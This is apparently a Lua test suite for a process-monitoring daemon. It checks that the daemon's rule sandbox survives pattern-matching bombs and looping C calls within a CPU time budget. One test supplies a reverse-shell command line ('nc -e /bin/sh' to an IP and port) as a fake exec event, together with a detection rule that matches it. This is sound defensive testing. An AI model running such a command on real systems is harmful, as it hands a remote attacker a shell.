-- sandbox_attacks_spec.lua: what a process (through the strings of its
-- exec) or a careless rule can do to the bounded functions of the sandbox,
-- in the real daemon: a pattern refused as too costly is "no match" and
-- never an error, so no exec can switch a rule off; a backtracking bomb
-- ends within the time budget; the C functions that loop (string.rep,
-- table.move/insert/remove/sort/concat) cannot hang the daemon, and the
-- time budget is checked when a long C call returns.
package.path = "lua/?.lua;lua/?/init.lua;spec/?.lua;" .. package.path
package.cpath = (os.getenv("PW_BUILD") or "build") .. "/lua/?.so;" .. package.cpath
local D = require "helpers.daemon"

local FIXTURE = D.fixtures .. "/budget.jsonl" -- seven execs, the second of /tmp/bomb
local PIDS = { 2101, 2102, 2103, 2104, 2105, 2106, 2107 }
local TIMEOUT = 20 -- seconds: what hung before is a timeout, not a stuck suite

-- CPU seconds of this process's waited-for children (the daemon runs
-- replayed): unlike wall-clock time, not stretched by other load.
local TICKS = (function()
  local p = assert(io.popen("getconf CLK_TCK"))
  local n = tonumber(p:read("l"))
  p:close()
  return n or 100
end)()
local function children_cpu()
  local f = assert(io.open("/proc/self/stat"))
  local stat = f:read("a")
  f:close()
  local fields = {}
  for w in stat:match("%) (.*)$"):gmatch("%S+") do fields[#fields + 1] = w end
  return (tonumber(fields[14]) + tonumber(fields[15])) / TICKS -- cutime, cstime (fields 16, 17)
end

local pids = D.pids

-- A policy whose "bomb" rule runs `code` (in its `when`) on /tmp/bomb and
-- logs "bomb handled PID" on every exec it lets through; res.secs: the CPU
-- seconds of the whole replay.
local function scenario(code)
  local path = D.bomb_policy(code)
  local t0 = children_cpu()
  local res = D.replay { rules = { path }, file = FIXTURE, stats = true, timeout = TIMEOUT }
  res.secs = children_cpu() - t0
  res.path = path
  res.counters = D.stats(res.err)
  return res
end

-- The call on /tmp/bomb failed with `message`, and only that call.
local function failed_once(res, message)
  assert.equal(0, res.rc, "the replay did not finish: " .. res.err:sub(1, 300))
  assert.same({ 2101, 2103, 2104, 2105, 2106, 2107 }, pids(res, "bomb", "bomb handled"))
  assert.equal(1, res.counters.handler_errors)
  assert.equal(0, res.counters.handlers_suspended)
  local lines = D.grep(res.err, "procwarden: error: handler bomb failed: ")
  assert.equal(1, #lines)
  assert.matches(message, lines[1], 1, true)
end

-- Every call succeeded: the bomb was handled like every other exec.
local function all_handled(res)
  assert.equal(0, res.rc, "the replay did not finish: " .. res.err:sub(1, 300))
  assert.same(PIDS, pids(res, "bomb", "bomb handled"))
  assert.equal(0, res.counters.handler_errors)
end

describe("a pattern refused on an exec's strings", function()
  teardown(D.cleanup)

  it("is no match: five long command lines do not suspend the rule, and nc -e /bin/sh is still caught", function()
    local events = {}
    for i = 1, 5 do
      events[i] = { type = "exec", pid = 3000 + i, tgid = 3000 + i, exe = "/usr/bin/python3",
        argv = { "python3", "-c", ("x"):rep(280) }, uid = 1000, user = "eve", comm = "python3", ppid = 2000 }
    end
    events[6] = { type = "exec", pid = 3006, tgid = 3006, exe = "/usr/bin/nc",
      argv = { "nc", "-e", "/bin/sh", "10.0.0.1", "4444" }, uid = 1000, user = "eve", comm = "nc", ppid = 2000 }
    local path = D.policy([[
rule {
  name = "revshell", on = "exec",
  when = function(e) return e.cmdline:find("nc.*%-e.*sh") end,
  action = log("info", "reverse shell {pid}"),
}
]])
    local res = D.replay { rules = { path }, events = events, stats = true, timeout = TIMEOUT }
    local counters = D.stats(res.err)
    assert.equal(0, res.rc)
    assert.equal(0, counters.handler_errors)
    assert.equal(0, counters.handlers_suspended)
    assert.same({ "reverse shell 3006" }, D.msgs(res, "revshell"))
  end)

  it("as a ^-prefixed gmatch bomb (gmatch takes ^ as a character) ends within the time budget", function()
    local res = scenario([[
      local c = os.clock()
      for _ in ("^"):rep(3161):gmatch("^.-.-z") do end
      if os.clock() - c > 0.25 then error("the gmatch bomb ran " .. (os.clock() - c) .. " s") end]])
    all_handled(res)
  end)
end)

describe("gsub with a C function as replacement", function()
  teardown(D.cleanup)

  it("is costed per match: three over 8 MiB are refused, not run for seconds unseen", function()
    local baseline = scenario("").secs
    local res = scenario([[local s = ("x"):rep(1 << 20) s = s .. s s = s .. s s = s .. s -- 8 MiB
      for _ = 1, 3 do s:gsub(".", tostring) end]])
    all_handled(res)
    assert.is_true(res.secs - baseline < 0.75, ("the replay took %.2f s of CPU, %.2f s without the bomb"):format(
      res.secs, baseline))
  end)
end)

describe("a C function of the sandbox that loops", function()
  teardown(D.cleanup)

  it("string.rep of empty pieces without end is refused at once", function()
    failed_once(scenario([[local s = string.rep("", math.maxinteger) log("info", "rep " .. #s)]]), "string.rep: ")
  end)

  it("table.move of 2^40 elements is refused at once", function()
    failed_once(scenario([[table.move({}, 1, 1 << 40, 1, {})]]), "table.move: ")
  end)

  it("table.insert and table.remove on a table whose length lies run under the budget", function()
    for _, call in ipairs { [[table.insert(t, 1, "x")]], [[table.remove(t, 1)]] } do
      local res = scenario(([[
        local t = setmetatable({}, { __len = function() return 1 << 40 end })
        %s]]):format(call))
      failed_once(res, "budget exceeded")
      assert.equal(1, res.counters.budget_exceeded)
    end
  end)

  it("table.sort of a table whose length lies is refused at once", function()
    failed_once(scenario([[
      local t = setmetatable({}, { __len = function() return 1 << 30 end, __index = rawlen, __newindex = rawequal })
      table.sort(t)]]),
      "table.sort: ")
  end)

  it("table.concat over a range longer than the cap is refused before it runs", function()
    failed_once(scenario([[
      local s = table.concat(setmetatable({}, { __index = rawlen }), "", 1, 1 << 40) log("info", #s)]]),
      "table.concat: ")
  end)
end)

-- The bound below (a call ends within about the budget plus one bounded C
-- call) needs host.budget_check's body in engine.c: it raises the budget
-- error when the running call is past its time budget. Without it only the
-- count hook sees the time, every 1000 VM instructions.
describe("the time budget", function()
  teardown(D.cleanup)

  local baseline
  setup(function() baseline = scenario("").secs end)

  -- Each loop runs seconds in C calls of tens of ms each, and only a few
  -- VM instructions per call.
  for _, case in ipairs {
    { "string.rep",
      [[for _ = 1, 40 do local s = ("x"):rep(1 << 22) end]] },
    { "table.sort with a C comparator",
      [[local t = {} for i = 1, 50000 do t[i] = (i * 7919) % 100003 end
        for _ = 1, 200 do table.sort(t, math.ult) end]] },
  } do
    it("is checked when " .. case[1] .. " returns", function()
      local res = scenario(case[2])
      failed_once(res, "budget exceeded")
      assert.equal(1, res.counters.budget_exceeded)
      -- at most the budget (0.25 s, wall-clock) and one C call (~0.05 s)
      assert.is_true(res.secs - baseline < 0.45, ("the replay took %.2f s of CPU, %.2f s without the bomb"):format(
        res.secs, baseline))
    end)
  end
end)
